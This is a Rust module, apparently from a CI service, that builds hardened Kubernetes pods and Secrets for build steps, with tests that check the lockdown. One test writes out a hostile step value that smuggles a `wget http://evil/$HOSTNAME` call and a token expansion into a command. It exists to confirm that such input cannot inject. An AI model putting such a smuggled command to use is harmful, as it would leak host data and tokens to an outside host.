//! The Pod of one step and its Secret, as pure values: names, labels, the locked-down spec and
//! the scripts of the containers that move the workspace in and the outputs out.
//!
//! The pod runs as the configured non-root uid with a read-only root filesystem, no capability,
//! no privilege escalation, seccomp `RuntimeDefault`, no ServiceAccount token and no service
//! links, under `activeDeadlineSeconds` (the step's timeout plus the transfer time). Its
//! `workspace-in` init container fetches the workspace from the service with the step's token,
//! the `step` container runs the command (an argument of a fixed wrapper script, never pasted
//! into it) in `/workspace`, and `workspace-out` waits until the service has seen the step end,
//! then sends `/workspace` back. Only the two helpers see the token and only `step` sees the
//! step's secrets, each through the per-step Secret.
//!
//! Limits: `memory_bytes` is the container's memory limit (a cgroup: the kernel kills the step,
//! `OOMKilled`), `disk_bytes` the workspace volume's `sizeLimit` beyond what it held (the kubelet
//! evicts the pod) and `ulimit -f`, `cpu_seconds` and `open_files` rlimits as on the host.
//! `processes` is not applied: `RLIMIT_NPROC` counts every process of the uid on the node, other
//! pods' steps included; the kubelet's `podPidsLimit` bounds a pod's processes.
//!
//! Kubernetes expands `$(NAME)` in commands, arguments and environment values; every `$` Baton
//! passes is written `$$` so the step gets its text exactly.

use std::collections::BTreeMap;
use std::time::Duration;

use k8s_openapi::ByteString;
use k8s_openapi::api::core::v1::{
    Capabilities, Container, EmptyDirVolumeSource, EnvVar, EnvVarSource, Pod, PodSecurityContext, PodSpec,
    ResourceRequirements, SeccompProfile, Secret, SecretKeySelector, SecurityContext, Volume, VolumeMount,
};
use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;

use super::settings::{MAX_NAME, PodSettings, dns_label, label_value, short_hash};
use crate::secret::Secret as SecretValue;
use crate::steps::{ResourceLimits, STEP_PATH};

/// Where the workspace is mounted in every container.
pub(super) const WORKSPACE_MOUNT: &str = "/workspace";
/// The Secret key (and helpers' variable) holding the step's workspace token.
pub(super) const TOKEN_KEY: &str = "BATON_WORKSPACE_TOKEN";
/// The helpers' variable holding the workspace server's URL.
const URL_VAR: &str = "BATON_WORKSPACE_URL";
/// Name of the container running the step: its log is the step's log.
pub(super) const STEP_CONTAINER: &str = "step";
/// Name of the init container fetching the workspace.
pub(super) const WORKSPACE_IN: &str = "workspace-in";
/// Name of the container sending the outputs back.
pub(super) const WORKSPACE_OUT: &str = "workspace-out";
/// Grace the kubelet gives a deleted pod's containers: a step that is deleted is over.
const TERMINATION_GRACE_SECONDS: i64 = 5;
/// Memory of the helpers beyond what they hold of the workspace: busybox `wget --post-file`
/// reads the whole (base64) archive into memory.
const HELPER_MEMORY: u64 = 256 << 20;
/// What a step without a disk limit is assumed to add to its workspace, for the sending
/// helper's memory.
const UNLIMITED_OUTPUTS: u64 = 2 << 30;

/// The labels every step object of a service carries.
pub(super) mod labels {
    /// `baton` on everything Baton makes.
    pub(crate) const MANAGED_BY: &str = "app.kubernetes.io/managed-by";
    /// `step` on step pods and their Secrets.
    pub(crate) const COMPONENT: &str = "baton.dev/component";
    /// `builder` or `tester`.
    pub(crate) const SERVICE: &str = "baton.dev/service";
    /// The app, label-safe.
    pub(crate) const APP: &str = "baton.dev/app";
    /// The run, label-safe.
    pub(crate) const RUN: &str = "baton.dev/run";
    /// The step, label-safe.
    pub(crate) const STEP: &str = "baton.dev/step";
    /// The replica driving the step.
    pub(crate) const INSTANCE: &str = "baton.dev/instance";
    /// `"true"` on pods of steps with `network: true`: their egress is open.
    pub(crate) const NETWORK: &str = "baton.dev/network";
    /// On build namespaces: the service whose steps run there.
    pub(crate) const BUILD_NAMESPACE: &str = "baton.dev/build-namespace";
}

/// The pod's name: run and step as DNS labels and 8 hex of run, step and `nonce`, at most 63.
pub(super) fn pod_name(run: &str, step: &str, nonce: &str) -> String {
    let suffix = short_hash(&format!("{run}/{step}/{nonce}"));
    let room = MAX_NAME - suffix.len() - 2;
    let run = dns_label(run, room / 2, "run");
    let step = dns_label(step, room - run.len(), "step");
    format!("{run}-{step}-{suffix}")
}

/// Labels of a step's pod and Secret.
pub(super) fn step_labels(
    settings: &PodSettings,
    app: &str,
    run: &str,
    step: &str,
    network: bool,
) -> BTreeMap<String, String> {
    let mut labels = BTreeMap::from([
        (labels::MANAGED_BY.to_owned(), "baton".to_owned()),
        (labels::COMPONENT.to_owned(), "step".to_owned()),
        (labels::SERVICE.to_owned(), settings.service.to_owned()),
        (labels::APP.to_owned(), label_value(app)),
        (labels::RUN.to_owned(), label_value(run)),
        (labels::STEP.to_owned(), label_value(step)),
        (labels::INSTANCE.to_owned(), settings.instance.clone()),
    ]);
    if network {
        labels.insert(labels::NETWORK.to_owned(), "true".to_owned());
    }
    labels
}

/// Everything one step's pod is made of.
#[derive(Debug)]
pub(super) struct StepPod<'a> {
    /// The resolved `steps.kubernetes`.
    pub(super) settings: &'a PodSettings,
    /// The pod's (and its Secret's) name.
    pub(super) name: &'a str,
    /// The build namespace.
    pub(super) namespace: &'a str,
    /// Its labels.
    pub(super) labels: &'a BTreeMap<String, String>,
    /// Original app, run and step names, as annotations (labels may be cut).
    pub(super) annotations: BTreeMap<String, String>,
    /// The step's image.
    pub(super) image: &'a str,
    /// The command, as `.baton.yaml` has it.
    pub(super) run: &'a str,
    /// The workdir relative to the workspace (`""`: its root).
    pub(super) workdir: &'a str,
    /// Environment of the step, in order (later entries win).
    pub(super) env: Vec<(String, String)>,
    /// Names of the granted secrets (keys of the Secret).
    pub(super) secrets: Vec<String>,
    /// The step's limits.
    pub(super) limits: &'a ResourceLimits,
    /// The step's timeout.
    pub(super) timeout: Duration,
    /// Bytes the workspace holds before the step.
    pub(super) workspace_bytes: u64,
}

/// `text` as Kubernetes passes it on: `$(NAME)` is expanded unless written `$$(NAME)`, and `$$`
/// becomes `$`, so doubling every `$` hands over the text exactly.
pub(super) fn escape_expansion(text: &str) -> String {
    text.replace('$', "$$")
}

fn quantity(bytes: u64) -> Quantity {
    Quantity(bytes.to_string())
}

impl StepPod<'_> {
    /// The pod.
    pub(super) fn pod(&self) -> Pod {
        let deadline = (self.timeout + self.settings.transfer_timeout).as_secs_f64().ceil();
        #[allow(clippy::cast_possible_truncation)]
        let deadline = deadline.min(i64::MAX as f64) as i64;
        let workspace_limit =
            (self.limits.disk_bytes > 0).then(|| quantity(self.workspace_bytes.saturating_add(self.limits.disk_bytes)));
        Pod {
            metadata: ObjectMeta {
                name: Some(self.name.to_owned()),
                namespace: Some(self.namespace.to_owned()),
                labels: Some(self.labels.clone()),
                annotations: Some(self.annotations.clone()),
                ..ObjectMeta::default()
            },
            spec: Some(PodSpec {
                restart_policy: Some("Never".to_owned()),
                automount_service_account_token: Some(false),
                enable_service_links: Some(false),
                active_deadline_seconds: Some(deadline.max(1)),
                termination_grace_period_seconds: Some(TERMINATION_GRACE_SECONDS),
                security_context: Some(PodSecurityContext {
                    run_as_non_root: Some(true),
                    run_as_user: Some(self.settings.uid),
                    run_as_group: Some(self.settings.gid),
                    fs_group: Some(self.settings.gid),
                    seccomp_profile: Some(SeccompProfile {
                        type_: "RuntimeDefault".to_owned(),
                        ..SeccompProfile::default()
                    }),
                    ..PodSecurityContext::default()
                }),
                volumes: Some(vec![
                    Volume {
                        name: "workspace".to_owned(),
                        empty_dir: Some(EmptyDirVolumeSource {
                            size_limit: workspace_limit,
                            ..EmptyDirVolumeSource::default()
                        }),
                        ..Volume::default()
                    },
                    Volume {
                        name: "tmp".to_owned(),
                        empty_dir: Some(EmptyDirVolumeSource::default()),
                        ..Volume::default()
                    },
                ]),
                init_containers: Some(vec![self.helper(WORKSPACE_IN, &workspace_in_script(), HELPER_MEMORY)]),
                containers: vec![
                    self.step_container(),
                    self.helper(WORKSPACE_OUT, &workspace_out_script(), self.out_memory()),
                ],
                ..PodSpec::default()
            }),
            status: None,
        }
    }

    /// The per-step Secret: the token for the helpers, the granted secrets for the step.
    pub(super) fn secret(&self, token: &str, secrets: &BTreeMap<String, SecretValue>) -> Secret {
        let mut data = BTreeMap::from([(TOKEN_KEY.to_owned(), ByteString(token.as_bytes().to_vec()))]);
        for (name, value) in secrets {
            data.insert(name.clone(), ByteString(value.expose().to_vec()));
        }
        Secret {
            metadata: ObjectMeta {
                name: Some(self.name.to_owned()),
                namespace: Some(self.namespace.to_owned()),
                labels: Some(self.labels.clone()),
                ..ObjectMeta::default()
            },
            immutable: Some(true),
            type_: Some("Opaque".to_owned()),
            data: Some(data),
            ..Secret::default()
        }
    }

    /// Memory of `workspace-out`: it holds the whole archive of the outputs, as base64.
    fn out_memory(&self) -> u64 {
        let added = if self.limits.disk_bytes > 0 {
            self.limits.disk_bytes
        } else {
            UNLIMITED_OUTPUTS
        };
        let archive = self.workspace_bytes.saturating_add(added);
        HELPER_MEMORY.saturating_add(archive.saturating_add(archive / 2))
    }

    fn mounts() -> Vec<VolumeMount> {
        vec![
            VolumeMount {
                name: "workspace".to_owned(),
                mount_path: WORKSPACE_MOUNT.to_owned(),
                ..VolumeMount::default()
            },
            VolumeMount {
                name: "tmp".to_owned(),
                mount_path: "/tmp".to_owned(),
                ..VolumeMount::default()
            },
        ]
    }

    fn secret_env(&self, name: &str, key: &str) -> EnvVar {
        EnvVar {
            name: name.to_owned(),
            value_from: Some(EnvVarSource {
                secret_key_ref: Some(SecretKeySelector {
                    name: self.name.to_owned(),
                    key: key.to_owned(),
                    optional: Some(false),
                }),
                ..EnvVarSource::default()
            }),
            ..EnvVar::default()
        }
    }

    fn plain_env(name: &str, value: &str) -> EnvVar {
        EnvVar {
            name: name.to_owned(),
            value: Some(escape_expansion(value)),
            ..EnvVar::default()
        }
    }

    fn step_container(&self) -> Container {
        // Later entries win, as for the local executors: the step's own variables may set PATH.
        let mut env: Vec<(String, String)> = vec![
            ("PATH".to_owned(), STEP_PATH.to_owned()),
            ("HOME".to_owned(), WORKSPACE_MOUNT.to_owned()),
        ];
        for (name, value) in &self.env {
            env.retain(|(n, _)| n != name);
            env.push((name.clone(), value.clone()));
        }
        let mut vars: Vec<EnvVar> = env.iter().map(|(n, v)| Self::plain_env(n, v)).collect();
        vars.extend(self.secrets.iter().map(|name| self.secret_env(name, name)));
        let resources = (self.limits.memory_bytes > 0).then(|| {
            let memory = BTreeMap::from([("memory".to_owned(), quantity(self.limits.memory_bytes))]);
            ResourceRequirements {
                limits: Some(memory.clone()),
                requests: Some(memory),
                ..ResourceRequirements::default()
            }
        });
        let working_dir = if self.workdir.is_empty() {
            WORKSPACE_MOUNT.to_owned()
        } else {
            format!("{WORKSPACE_MOUNT}/{}", self.workdir)
        };
        Container {
            name: STEP_CONTAINER.to_owned(),
            image: Some(self.image.to_owned()),
            command: Some(vec!["/bin/sh".to_owned(), "-c".to_owned()]),
            args: Some(vec![
                escape_expansion(&step_wrapper(self.limits)),
                "sh".to_owned(),
                escape_expansion(self.run),
            ]),
            working_dir: Some(working_dir),
            env: Some(vars),
            resources,
            volume_mounts: Some(Self::mounts()),
            security_context: Some(locked_down()),
            ..Container::default()
        }
    }

    fn helper(&self, name: &str, script: &str, memory: u64) -> Container {
        let requests = BTreeMap::from([
            ("cpu".to_owned(), Quantity("50m".to_owned())),
            ("memory".to_owned(), Quantity("32Mi".to_owned())),
            ("ephemeral-storage".to_owned(), Quantity("16Mi".to_owned())),
        ]);
        let limits = BTreeMap::from([
            ("cpu".to_owned(), Quantity("1".to_owned())),
            ("memory".to_owned(), quantity(memory)),
            ("ephemeral-storage".to_owned(), Quantity("64Mi".to_owned())),
        ]);
        Container {
            name: name.to_owned(),
            image: Some(self.settings.helper_image.clone()),
            command: Some(vec!["/bin/sh".to_owned(), "-c".to_owned()]),
            args: Some(vec![escape_expansion(script)]),
            env: Some(vec![
                Self::plain_env(URL_VAR, &self.settings.url),
                self.secret_env(TOKEN_KEY, TOKEN_KEY),
            ]),
            resources: Some(ResourceRequirements {
                limits: Some(limits),
                requests: Some(requests),
                ..ResourceRequirements::default()
            }),
            volume_mounts: Some(Self::mounts()),
            security_context: Some(locked_down()),
            // A failing helper's last words become its termination message, for the step's error.
            termination_message_policy: Some("FallbackToLogsOnError".to_owned()),
            ..Container::default()
        }
    }
}

/// The security context of every container.
fn locked_down() -> SecurityContext {
    SecurityContext {
        allow_privilege_escalation: Some(false),
        read_only_root_filesystem: Some(true),
        privileged: Some(false),
        capabilities: Some(Capabilities {
            drop: Some(vec!["ALL".to_owned()]),
            add: None,
        }),
        ..SecurityContext::default()
    }
}

/// The script the step's command runs under in its pod: rlimits (soft and hard), then a fresh
/// shell on the command, passed as `$1`.
fn step_wrapper(limits: &ResourceLimits) -> String {
    let mut script = String::new();
    let settings = [
        ("-t", limits.cpu_seconds),
        ("-n", limits.open_files),
        // 512-byte blocks in busybox and dash; never 0, which would forbid every write.
        (
            "-f",
            if limits.disk_bytes > 0 {
                (limits.disk_bytes / 512).max(1)
            } else {
                0
            },
        ),
    ];
    for (flag, value) in settings {
        if value > 0 {
            script.push_str(&format!("ulimit {flag} {value} || exit 125; "));
        }
    }
    script.push_str("exec /bin/sh -c -- \"$1\"");
    script
}

/// `workspace-in`: fetches the workspace archive with the token and unpacks it.
fn workspace_in_script() -> String {
    format!(
        "set -eu; rm -f /tmp/.baton-workspace.tar; \
         wget -q -O /tmp/.baton-workspace.tar --header \"Authorization: Bearer ${TOKEN_KEY}\" \"${URL_VAR}/v1/workspace\"; \
         tar -x -f /tmp/.baton-workspace.tar -C {WORKSPACE_MOUNT}; rm -f /tmp/.baton-workspace.tar"
    )
}

/// `workspace-out`: asks until the service saw the step end (`ready`; `wait` means ask again),
/// then sends `/workspace` back as base64 of a tar archive (busybox `wget --post-file` stops at
/// the first NUL byte). Ten failed asks in a row give up.
fn workspace_out_script() -> String {
    format!(
        "set -u; failures=0; \
         while :; do \
           if wget -q -O /tmp/.baton-ready --header \"Authorization: Bearer ${TOKEN_KEY}\" \"${URL_VAR}/v1/workspace/ready\"; then \
             failures=0; [ \"$(cat /tmp/.baton-ready)\" = ready ] && break; \
           else \
             failures=$((failures + 1)); \
             if [ \"$failures\" -ge 10 ]; then echo 'baton: the workspace server does not answer' >&2; exit 1; fi; \
             sleep 2; \
           fi; \
         done; \
         rm -f /tmp/.baton-outputs.tar /tmp/.baton-outputs.b64; \
         tar -c -f /tmp/.baton-outputs.tar -C {WORKSPACE_MOUNT} . && \
         base64 /tmp/.baton-outputs.tar > /tmp/.baton-outputs.b64 && rm -f /tmp/.baton-outputs.tar && \
         wget -q -O /dev/null --header \"Authorization: Bearer ${TOKEN_KEY}\" --post-file /tmp/.baton-outputs.b64 \"${URL_VAR}/v1/workspace\""
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings() -> PodSettings {
        let yaml = "image: registry.example/toolchain:1\nworkspace:\n  url: http://baton-builder.baton.svc:8091\n";
        PodSettings::resolve("builder", &yaml_serde::from_str(yaml).unwrap(), &|_| {
            Some("baton-builder-0".to_owned())
        })
        .unwrap()
    }

    #[test]
    fn pod_names_fit_and_differ_by_attempt() {
        let name = pod_name("build-42", "compile", "a");
        assert!(name.starts_with("build-42-compile-"), "{name}");
        assert_eq!(name.len(), "build-42-compile-".len() + 8);
        assert_ne!(name, pod_name("build-42", "compile", "b"));
        let long = pod_name(&"R".repeat(200), &"Step name with spaces/and slashes".repeat(5), "a");
        assert!(long.len() <= 63, "{long}");
        assert!(
            long.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        );
        assert!(!long.starts_with('-'));
    }

    #[test]
    fn dollars_reach_the_step_exactly() {
        assert_eq!(escape_expansion("echo $(HOME) $$ $PATH"), "echo $$(HOME) $$$$ $$PATH");
    }

    #[test]
    fn hostile_step_fields_reach_no_place_they_could_inject_into() {
        let settings = settings();
        let hostile = "$(BATON_WORKSPACE_TOKEN)\"; wget http://evil/$HOSTNAME #\n\u{e9}";
        let step_name = format!("{hostile}{}", "s".repeat(300));
        let name = pod_name("build-42", &step_name, "a");
        assert!(
            name.len() <= MAX_NAME
                && name
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
            "{name}"
        );
        let labels = step_labels(&settings, "acme/shop", "build-42", &step_name, false);
        assert!(
            labels
                .values()
                .all(|value| super::super::settings::is_label_value(value)),
            "{labels:?}"
        );
        let limits = ResourceLimits::default();
        let step = StepPod {
            settings: &settings,
            name: &name,
            namespace: "baton-build-acme-shop",
            labels: &labels,
            annotations: BTreeMap::new(),
            image: "registry.example/toolchain:1",
            run: hostile,
            workdir: "",
            // A variable named as the helpers' token, and values that would expand it.
            env: vec![
                (TOKEN_KEY.into(), "forged".into()),
                (URL_VAR.into(), "http://evil".into()),
                ("X".into(), hostile.into()),
            ],
            secrets: Vec::new(),
            limits: &limits,
            timeout: Duration::from_secs(60),
            workspace_bytes: 0,
        };
        let spec = step.pod().spec.unwrap();
        let step_container = &spec.containers[0];
        // The command is an argument of the wrapper, every `$` doubled: nothing expands.
        let args = step_container.args.as_ref().unwrap();
        assert_eq!(args[2], escape_expansion(hostile));
        assert!(!args[0].contains("wget") && !args[0].contains("evil"));
        let env = step_container.env.as_ref().unwrap();
        assert!(
            env.iter().all(|e| e.value_from.is_none()),
            "the step got a secret reference: {env:?}"
        );
        assert_eq!(
            env.iter().find(|e| e.name == "X").unwrap().value.as_deref(),
            Some(escape_expansion(hostile).as_str())
        );
        // The helpers keep their own URL and the real token, whatever the step's variables say.
        for helper in [&spec.init_containers.as_ref().unwrap()[0], &spec.containers[1]] {
            let env = helper.env.as_ref().unwrap();
            assert_eq!(env.len(), 2);
            assert_eq!(env[0].value.as_deref(), Some(settings.url.as_str()));
            assert_eq!(
                env[1].value_from.as_ref().unwrap().secret_key_ref.as_ref().unwrap().key,
                TOKEN_KEY
            );
            assert!(!helper.args.as_ref().unwrap()[0].contains("evil"));
        }
        // The token reaches no container by envFrom or a mounted volume.
        for container in spec.init_containers.unwrap().iter().chain(&spec.containers) {
            assert!(container.env_from.is_none(), "{}", container.name);
        }
        assert!(
            spec.volumes
                .unwrap()
                .iter()
                .all(|v| v.secret.is_none() && v.projected.is_none())
        );
    }

    #[test]
    fn the_pod_is_locked_down() {
        let settings = settings();
        let labels = step_labels(&settings, "acme/shop", "build-42", "compile", false);
        let limits = ResourceLimits {
            cpu_seconds: 60,
            memory_bytes: 1 << 30,
            open_files: 1024,
            processes: 100,
            disk_bytes: 1 << 20,
        };
        let step = StepPod {
            settings: &settings,
            name: "build-42-compile-12345678",
            namespace: "baton-build-acme-shop",
            labels: &labels,
            annotations: BTreeMap::new(),
            image: "registry.example/toolchain:1",
            run: "make $(TARGET)",
            workdir: "sub",
            env: vec![("CC".into(), "gcc".into()), ("PATH".into(), "/opt/bin".into())],
            secrets: vec!["NPM_TOKEN".into()],
            limits: &limits,
            timeout: Duration::from_millis(1500),
            workspace_bytes: 1000,
        };
        let pod = step.pod();
        let spec = pod.spec.unwrap();
        assert_eq!(spec.active_deadline_seconds, Some(122));
        assert_eq!(spec.automount_service_account_token, Some(false));
        let security = spec.security_context.unwrap();
        assert_eq!(security.run_as_non_root, Some(true));
        assert_eq!(security.run_as_user, Some(65532));
        assert_eq!(security.seccomp_profile.unwrap().type_, "RuntimeDefault");
        let volumes = spec.volumes.unwrap();
        assert_eq!(
            volumes[0].empty_dir.as_ref().unwrap().size_limit,
            Some(Quantity("1049576".into()))
        );
        let step_container = &spec.containers[0];
        assert_eq!(step_container.working_dir.as_deref(), Some("/workspace/sub"));
        let args = step_container.args.as_ref().unwrap();
        assert_eq!(
            args[0],
            "ulimit -t 60 || exit 125; ulimit -n 1024 || exit 125; ulimit -f 2048 || exit 125; exec /bin/sh -c -- \"$$1\""
        );
        assert_eq!(args[2], "make $$(TARGET)");
        let env = step_container.env.as_ref().unwrap();
        let names: Vec<_> = env.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["HOME", "CC", "PATH", "NPM_TOKEN"]);
        assert_eq!(env[2].value.as_deref(), Some("/opt/bin"));
        // The step never sees the token; the helpers never see the step's secrets.
        assert!(env.iter().all(|e| e.name != TOKEN_KEY));
        for helper in [&spec.init_containers.as_ref().unwrap()[0], &spec.containers[1]] {
            let names: Vec<_> = helper.env.as_ref().unwrap().iter().map(|e| e.name.as_str()).collect();
            assert_eq!(names, [URL_VAR, TOKEN_KEY]);
        }
        for container in spec.init_containers.unwrap().iter().chain(&spec.containers) {
            let security = container.security_context.as_ref().unwrap();
            assert_eq!(security.read_only_root_filesystem, Some(true));
            assert_eq!(security.allow_privilege_escalation, Some(false));
            assert_eq!(
                security.capabilities.as_ref().unwrap().drop.as_deref(),
                Some(&["ALL".to_owned()][..])
            );
        }
        let secret = step.secret(
            "t0ken",
            &BTreeMap::from([("NPM_TOKEN".to_owned(), SecretValue::new("npm"))]),
        );
        let data = secret.data.unwrap();
        assert_eq!(data[TOKEN_KEY].0, b"t0ken");
        assert_eq!(data["NPM_TOKEN"].0, b"npm");
        assert_eq!(secret.immutable, Some(true));
    }
}
